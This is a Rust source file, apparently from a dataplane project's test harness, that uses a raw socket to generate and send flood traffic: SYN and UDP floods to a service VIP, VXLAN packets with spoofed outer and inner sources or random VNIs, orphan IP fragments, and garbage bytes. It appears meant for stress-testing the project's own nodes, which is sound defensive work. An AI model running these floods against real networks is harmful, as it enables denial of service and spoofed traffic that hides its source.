//! What attackers send: whole IPv4 packets by a raw socket, made beforehand and sent in turns.
//!
//! A pod attacks its own node, and whoever stands on the underlay the server's node: each time the one whose legitimate
//! traffic comes in by the same device or socket.

use std::io::IoSlice;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, SocketAddrV4};
use std::os::fd::AsRawFd;
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use clap::{Args, ValueEnum};
use nix::sys::socket::{
    AddressFamily, MsgFlags, MultiHeaders, SockFlag, SockProtocol, SockType, SockaddrIn, sendmmsg, socket,
};
use windlass_dataplane::wire::ethernet::Mac;
use windlass_dataplane::wire::flow::{FlowKey, Protocol};
use windlass_tests::packets::{self, Tcp, with_header};
use windlass_tests::sim::rng::mixed;
use windlass_tests::topology::{NodeSpec, VNI, VXLAN_PORT};

use crate::measure::udp::Sent;
use crate::services::{MEASURED, PORT};

const BATCH: usize = 64;
const PACED_BATCH: usize = 16;
/// Different packets; then they come round again.
const PACKETS: u64 = 1 << 19;
/// IPv4 and UDP headers around VXLAN.
pub(super) const OUTER_LEN: usize = 28;
/// Where a later fragment's payload stands, in units of 8 bytes: behind what the first one brings.
const LATER_OFFSET: u16 = 9;
/// A pod of the worked example's ranges that nobody is.
const FIRST_NOBODY: u64 = 100;
/// How many follow it.
const NOBODIES: u64 = 150;

/// Who sends.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum From {
    /// A pod beside the client.
    Pod,
    /// A machine on the underlay.
    Underlay,
}

/// One attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Attack {
    /// SYNs to the VIP, each of another flow
    SynVip,
    /// Datagrams to the VIP, each of another flow
    UdpVip,
    /// SYNs to the server pod inside VXLAN, as if from pods of the peer
    VxlanSyn,
    /// SYNs to the VIP inside VXLAN
    VxlanSynVip,
    /// VXLAN of random networks
    RandomVni,
    /// VXLAN from random underlay addresses
    SpoofedOuter,
    /// VXLAN with random inner sources
    SpoofedInner,
    /// First fragments inside VXLAN that nothing follows
    FirstFragments,
    /// Later fragments inside VXLAN without a first one
    LaterFragments,
    /// Random bytes to the VXLAN port
    Garbage,
    /// Fragments to the VIP without their first one, from the pod; the host's own defragmentation is full for 30 s then
    PodFragments,
}

/// Arguments of `attack`.
#[derive(Args, Debug)]
pub struct AttackArgs {
    /// What to send
    #[arg(value_enum)]
    attack: Attack,
    /// The server pod's address
    server: Ipv4Addr,
    /// Packets per second at most
    #[arg(long)]
    rate: Option<f64>,
    /// How long
    #[arg(long, default_value_t = 1000)]
    duration_ms: u64,
}

/// Attacks for a while, and prints how many packets the kernel took a second.
///
/// # Errors
/// When there is no right to a raw socket, or sending fails for good.
#[allow(clippy::cast_precision_loss)]
pub fn run(args: &AttackArgs) -> Result<()> {
    let packets = args.attack.packets(args.server);
    let begun = Instant::now();
    let sent = send(&packets, args.rate, Duration::from_millis(args.duration_ms))?;
    println!("{}", sent as f64 / begun.elapsed().as_secs_f64());
    Ok(())
}

impl Attack {
    /// Who sends it.
    #[must_use]
    pub fn from(self) -> From {
        match self {
            Self::SynVip | Self::UdpVip | Self::PodFragments => From::Pod,
            _ => From::Underlay,
        }
    }

    /// Its name on the command line.
    #[must_use]
    pub fn name(self) -> String {
        self.to_possible_value().map_or_else(String::new, |value| value.get_name().to_owned())
    }

    /// What it is, for people.
    #[must_use]
    pub fn title(self) -> String {
        let help = self.to_possible_value().and_then(|value| value.get_help().map(ToString::to_string));
        help.unwrap_or_default()
    }

    fn packets(self, server: Ipv4Addr) -> Vec<(Ipv4Addr, Vec<u8>)> {
        (0..PACKETS).map(|number| self.packet(server, number)).collect()
    }

    /// The packet of that number and where it goes.
    #[must_use]
    pub fn packet(self, server: Ipv4Addr, number: u64) -> (Ipv4Addr, Vec<u8>) {
        let random = mixed(number);
        let (near, far) = (NodeSpec::first(), NodeSpec::second());
        let vip = SocketAddr::from((MEASURED.vip, MEASURED.port));
        let pod = SocketAddr::from((server, PORT));
        let mut outer_source = near.address;
        let inside = |inner| packets::vxlan(VNI, vtep_mac(&far), inner);
        let payload = match self {
            Self::SynVip => return (MEASURED.vip, syn(random, vip)),
            Self::UdpVip => return (MEASURED.vip, datagram(random, vip)),
            Self::PodFragments => return (MEASURED.vip, later_fragment(random, vip)),
            Self::VxlanSyn => inside(&syn(random, pod)),
            Self::VxlanSynVip => inside(&syn(random, vip)),
            Self::RandomVni => {
                let [a, b, c, ..] = random.to_be_bytes();
                packets::vxlan(u32::from_be_bytes([0, a, b, c | 1]), vtep_mac(&far), &syn(random, pod))
            }
            Self::SpoofedOuter => {
                outer_source = Ipv4Addr::from(u32::from(far.address) + 20 + (random % NOBODIES) as u32);
                inside(&datagram(random, pod))
            }
            Self::SpoofedInner => {
                let flow = FlowKey { src: anyone(random), ..flow(random, pod, Protocol::UDP) };
                inside(&packets::udp(&flow, b"spoofed"))
            }
            Self::FirstFragments => inside(&first_fragment(random, pod)),
            Self::LaterFragments => inside(&later_fragment(random, pod)),
            Self::Garbage => (0..10).flat_map(|word| mixed(random + word).to_be_bytes()).collect(),
        };
        (far.address, datagram_to_vtep(outer_source, far.address, random, &payload))
    }
}

/// The MAC of its IPv4 VTEP.
pub(super) fn vtep_mac(node: &NodeSpec) -> Mac {
    node.vtep_mac.parse().unwrap_or_else(|_| unreachable!("the worked example's MACs"))
}

/// A flow of a pod that nobody is, on the client's node.
#[allow(clippy::cast_possible_truncation)]
fn flow(random: u64, to: SocketAddr, protocol: Protocol) -> FlowKey {
    let address = Ipv4Addr::new(10, 244, NodeSpec::first().subnet, (FIRST_NOBODY + random % NOBODIES) as u8);
    let src_port = (random >> 16) as u16 | 1;
    FlowKey { src: address.into(), dst: to.ip(), protocol, src_port, dst_port: to.port() }
}

#[allow(clippy::cast_possible_truncation)]
fn anyone(random: u64) -> IpAddr {
    Ipv4Addr::from((random >> 32) as u32).into()
}

fn syn(random: u64, to: SocketAddr) -> Vec<u8> {
    packets::tcp(&flow(random, to, Protocol::TCP), Tcp::Syn, &[])
}

fn datagram(random: u64, to: SocketAddr) -> Vec<u8> {
    packets::udp(&flow(random, to, Protocol::UDP), b"hostile")
}

fn first_fragment(random: u64, to: SocketAddr) -> Vec<u8> {
    with_header(packets::udp(&flow(random, to, Protocol::UDP), &[0; 64]), |header| {
        header.identification = (random >> 8) as u16;
        header.more_fragments = true;
    })
}

fn later_fragment(random: u64, to: SocketAddr) -> Vec<u8> {
    with_header(packets::udp(&flow(random, to, Protocol::UDP), &[0; 64]), |header| {
        header.identification = (random >> 8) as u16;
        header.fragment_offset = LATER_OFFSET.try_into().unwrap_or_default();
    })
}

/// A UDP datagram without a checksum, as RFC 7348 section 5 lets VXLAN come.
#[allow(clippy::cast_possible_truncation)]
fn datagram_to_vtep(from: Ipv4Addr, to: Ipv4Addr, random: u64, payload: &[u8]) -> Vec<u8> {
    let mut packet = Vec::with_capacity(OUTER_LEN + payload.len());
    packet.extend([0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, 17, 0, 0]);
    packet.extend(from.octets());
    packet.extend(to.octets());
    packet.extend((49_152 | random as u16).to_be_bytes());
    packet.extend(VXLAN_PORT.to_be_bytes());
    packet.extend((8 + payload.len() as u16).to_be_bytes());
    packet.extend([0, 0]);
    packet.extend(payload);
    packet
}

/// Sends them in turns; gives how many the kernel took. It fills in lengths and header checksums (raw(7)).
fn send(packets: &[(Ipv4Addr, Vec<u8>)], rate: Option<f64>, time: Duration) -> Result<usize> {
    let raw = socket(AddressFamily::Inet, SockType::Raw, SockFlag::empty(), SockProtocol::Raw)
        .context("a raw socket")?;
    let batch = if rate.is_some() { PACED_BATCH } else { BATCH };
    let mut headers = MultiHeaders::<SockaddrIn>::preallocate(batch, None);
    let mut sent = Sent::default();
    let begun = Instant::now();
    for batch in packets.chunks_exact(batch).cycle() {
        if begun.elapsed() >= time {
            break;
        }
        sent.wait_for_turn(begun, rate);
        let slices: Vec<_> = batch.iter().map(|(_, packet)| [IoSlice::new(packet)]).collect();
        let targets: Vec<_> =
            batch.iter().map(|(target, _)| Some(SockaddrIn::from(SocketAddrV4::new(*target, 0)))).collect();
        let taken = sendmmsg(raw.as_raw_fd(), &mut headers, &slices, &targets, [], MsgFlags::empty());
        if sent.note(taken.map(Iterator::count)).is_err() {
            // What one's own machine refuses, such as a full fragment queue, harms nobody.
            thread::sleep(Duration::from_millis(1));
        }
    }
    Ok(sent.packets)
}
